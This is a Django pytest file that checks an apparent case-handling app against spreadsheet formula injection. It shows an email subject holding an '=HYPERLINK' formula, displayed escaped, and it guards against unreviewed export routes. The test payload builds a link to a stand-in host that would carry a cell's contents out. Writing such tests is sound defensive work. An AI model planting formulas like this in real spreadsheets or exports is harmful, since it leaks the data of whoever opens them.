"""A25: texts that a spreadsheet would run. Pages show them unchanged; a table of ours never begins a cell with them."""

import pytest
from django.test import Client
from django.urls import get_resolver, reverse

from makegood.adapters.email.tests.make import mail
from makegood.care.cases.models import Case


@pytest.mark.django_db
def test_a_formula_is_shown_as_it_was_written(take, lead_page: Client):
    subject = '=HYPERLINK("http://canary.test/?x="&A1,"refund")'
    take(mail(Subject=subject))
    page = lead_page.get(reverse("web:case", args=[Case.objects.get().pk])).content.decode()
    assert "=HYPERLINK(&quot;http://canary.test/?x=&quot;&amp;A1,&quot;refund&quot;)" in page


def test_no_route_gives_tables_yet():
    """Whoever adds an export meets this test, and makes its cells safe here."""
    names = [str(key) for key in get_resolver().reverse_dict]
    spaces = [
        name
        for space, (_, inner) in get_resolver().namespace_dict.items()
        for name in map(str, inner.reverse_dict)
        if space
    ]
    assert [
        n
        for n in names + spaces
        if "csv" in n.lower() or "xlsx" in n.lower() or "export" in n.lower()
    ] == []
